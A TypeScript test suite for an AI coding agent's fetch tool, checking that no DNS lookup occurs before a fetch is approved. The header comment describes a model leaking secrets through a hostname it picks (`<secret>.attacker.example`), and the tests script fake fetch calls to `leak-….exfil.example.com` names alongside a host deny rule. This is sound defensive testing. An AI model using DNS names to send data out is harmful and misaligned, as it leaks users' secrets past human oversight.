/**
 * Nothing leaves the machine before a `fetch` is allowed: not a connection,
 * not even a DNS lookup, since a name the model chooses
 * (`<secret>.attacker.example`) carries data to whoever runs its zone. The
 * agent runs with a resolver of the test's own that records every query:
 * refused in read-only mode, rejected by the user (and not looked up while
 * they are being asked), refused by a host rule or a tool rule, or a
 * redirect to another host — none of these names reaches the resolver.
 * The control: the same kind of name, fetched in yolo mode, does.
 * A second resolver never answers names under one domain: a fetch of such
 * a name still ends at `fetch.timeoutSeconds`, a cancel still ends the turn
 * at once, and lookups left waiting on it are bounded in number.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { setTimeout as sleep } from "node:timers/promises";
import { randomBytes } from "node:crypto";
import { acp } from "../helpers/acp-client.ts";
import { RUNTIMES } from "../helpers/agent-process.ts";
import { dnsWatchUnavailable, startDnsWatch, type DnsWatch } from "../helpers/dns-watcher.ts";
import { answering, finalStatus, startScenario, toolEvents } from "../helpers/scenario.ts";
import { startWebServer, type WebServer } from "../helpers/web-server.ts";

const unavailable = dnsWatchUnavailable();
if (unavailable) console.warn(`fetch-dns-gate: skipped: ${unavailable}`);

const fetchCall = (id: string, url: string) => ({ toolCalls: [{ id, name: "fetch", input: { url } }] });
const done = { text: "done" };
/** A name no one has looked up before: what a model smuggling data out would choose. */
const secretName = () => `leak-${randomBytes(6).toString("hex")}.exfil.example.com`;

function resultText(updates: acp.SessionUpdate[], id: string): string {
  const last = toolEvents(updates, id).at(-1) as { content?: Array<{ content?: { text?: string } }> } | undefined;
  return (last?.content ?? []).map((c) => c.content?.text ?? "").join("\n");
}

let dns: DnsWatch;
/** Never answers names under SILENT; the agent's resolver would wait 30 s for each. */
let silent: DnsWatch;
const SILENT = "stall.example.com";
const silentName = () => `slow-${randomBytes(6).toString("hex")}.${SILENT}`;
let site: WebServer;
const redirectTarget = secretName();

beforeAll(async () => {
  if (unavailable) return;
  dns = await startDnsWatch();
  silent = await startDnsWatch({ silentUnder: SILENT, resolverTimeoutSeconds: 30 });
  site = await startWebServer({
    "/away": (r) => {
      r.writeHead(302, { location: `http://${redirectTarget}/page` });
      r.end();
    },
  });
});

afterAll(async () => {
  await dns?.close();
  await silent?.close();
  await site?.close();
});

describe.skipIf(unavailable !== undefined).each(RUNTIMES)("DNS before the fetch gate on %s", (runtime) => {
  test("read-only: a refused fetch looks nothing up", async () => {
    const name = secretName();
    const s = await startScenario(dns.launcher(runtime), { script: [fetchCall("r1", `https://${name}/`), done], args: ["--approval-mode", "read-only"] });
    try {
      await s.prompt("go");
      expect(dns.asked(name)).toBe(false);
      expect(resultText(s.updates(), "r1")).toContain("read-only mode");
    } finally {
      s.close();
    }
  });

  test("ask: nothing is looked up while the user is asked, nor after they reject", async () => {
    const name = secretName();
    let askedBeforeAnswer: boolean | undefined;
    const answers = answering(() => {
      askedBeforeAnswer = dns.asked(name);
      return "reject_once";
    });
    const s = await startScenario(dns.launcher(runtime), { script: [fetchCall("a1", `https://${name}/x`), done], ...answers });
    try {
      await s.prompt("go");
      expect(dns.asked(name)).toBe(false);
      expect(answers.requests).toHaveLength(1);
      expect(askedBeforeAnswer).toBe(false);
      expect(finalStatus(s.updates(), "a1")).toBe("failed");
    } finally {
      s.close();
    }
  });

  test("a deny rule for the host, or for the tool, refuses before anything is looked up", async () => {
    const ruled = secretName();
    const s = await startScenario(dns.launcher(runtime), {
      script: [fetchCall("h1", `https://${ruled}/`), done],
      args: ["--approval-mode", "yolo"],
      settings: { permissionRules: [{ action: "deny", host: "*.exfil.example.com" }] },
    });
    const toolRuled = secretName();
    const t = await startScenario(dns.launcher(runtime), {
      script: [fetchCall("t1", `https://${toolRuled}/`), done],
      args: ["--approval-mode", "yolo"],
      settings: { permissionRules: [{ action: "deny", tools: ["fetch"] }] },
    });
    try {
      await s.prompt("go");
      await t.prompt("go");
      expect(dns.asked(ruled)).toBe(false);
      expect(dns.asked(toolRuled)).toBe(false);
      expect(resultText(s.updates(), "h1")).toContain("Blocked by the permission rule");
      expect(resultText(t.updates(), "t1")).toContain("Blocked by the permission rule");
    } finally {
      s.close();
      t.close();
    }
  });

  test("a redirect to another host is reported, its name never looked up; an allowed fetch is (the watcher sees it)", async () => {
    const allowed = secretName();
    const s = await startScenario(dns.launcher(runtime), {
      script: [fetchCall("d1", `http://127.0.0.1:${site.port}/away`), fetchCall("y1", `http://${allowed}/`), done],
      args: ["--approval-mode", "yolo"],
      settings: { fetch: { allowHosts: [`127.0.0.1:${site.port}`] } },
    });
    try {
      await s.prompt("go");
      expect(dns.asked(redirectTarget)).toBe(false);
      expect(resultText(s.updates(), "d1")).toContain("not followed");
      // The control: once a fetch is allowed its name does reach the resolver, so the checks above can fail.
      expect(resultText(s.updates(), "y1")).toContain("could not be resolved");
      expect(dns.asked(allowed)).toBe(true);
    } finally {
      s.close();
    }
  });
});

describe.skipIf(unavailable !== undefined).each(RUNTIMES)("a resolver that never answers, on %s", (runtime) => {
  test("the fetch ends at fetch.timeoutSeconds, not when the resolver gives up", async () => {
    const name = silentName();
    const s = await startScenario(silent.launcher(runtime), {
      script: [fetchCall("s1", `http://${name}/`), done],
      args: ["--approval-mode", "yolo"],
      settings: { fetch: { timeoutSeconds: 1 } },
    });
    try {
      await s.prompt("go");
      expect(silent.asked(name)).toBe(true);
      expect(resultText(s.updates(), "s1")).toContain("took longer than 1 s");
    } finally {
      s.close();
    }
  }, 90_000);

  test("a cancel ends the turn while the name is being looked up", async () => {
    const name = silentName();
    const s = await startScenario(silent.launcher(runtime), { script: [fetchCall("c1", `http://${name}/`), done], args: ["--approval-mode", "yolo"] });
    try {
      const answer = s.prompt("go");
      await silent.whenAsked(name);
      await s.client.agent.notify(acp.methods.agent.session.cancel, { sessionId: s.sessionId });
      // Not a speed check: the resolver would hold the turn for 30 s, this bound is 20 s.
      const first = await Promise.race([answer.then((r) => r.stopReason), sleep(20_000).then(() => "still running after 20 s")]);
      expect(first).toBe("cancelled");
    } finally {
      s.close();
    }
  }, 90_000);

  test("a lookup left waiting on the resolver holds the one place: the next is refused, never sent", async () => {
    const [first, second] = [silentName(), silentName()];
    const s = await startScenario(silent.launcher(runtime), {
      script: [fetchCall("w1", `http://${first}/`), fetchCall("w2", `http://${second}/`), done],
      args: ["--approval-mode", "yolo"],
      settings: { fetch: { timeoutSeconds: 0.5 } },
    });
    try {
      expect((await s.prompt("go")).stopReason).toBe("end_turn");
      expect(resultText(s.updates(), "w1")).toContain("took longer than 0.5 s");
      expect(resultText(s.updates(), "w2")).toContain("the system's resolver has not answered an earlier lookup");
      expect([silent.asked(first), silent.asked(second)]).toEqual([true, false]);
    } finally {
      s.close();
    }
  }, 90_000);
});
